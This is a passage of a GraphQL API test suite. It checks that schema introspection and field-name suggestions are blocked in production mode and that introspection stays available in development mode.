    k = await startTestKairos('prod', { roles: ['api'], env: { KAIROS_MODE: 'production' } });
  });
  afterAll(async () => {
    await k?.stop();
  });

  it.each([
    ['__schema', '{ __schema { types { name } } }'],
    ['__type', '{ __type(name: "Job") { fields { name } } }'],
    ['__schema hidden in a fragment', 'query { ...F } fragment F on Query { __schema { queryType { name } } }'],
  ])('refuses introspection through %s', async (_label, query) => {
    const response = await post(k.url, JSON.stringify({ query }), bearer(member));
    expectClearError(response, ['BAD_USER_INPUT']);
    expect(response.text).not.toContain('"Job"');
  });

  it('does not suggest field names', async () => {
    const response = await post(k.url, JSON.stringify({ query: '{ jbs { totalCount } }' }), bearer(member));
    expectClearError(response, ['BAD_USER_INPUT']);
    expect(response.text).not.toMatch(/Did you mean|"jobs"/);
  });
});

describe('development mode keeps introspection', () => {
  let k: TestKairos;

  beforeAll(async () => {
    k = await startTestKairos('dev', { roles: ['api'] });
  });
  afterAll(async () => {
    await k?.stop();
  });

  it('answers __schema', async () => {
    const data = await gqlOk(k.url, tokenFor(uniqueName('dev'), 'viewer'), '{ __schema { queryType { name } } }');
    expect(data.__schema.queryType.name).toBe('Query');
  });
});
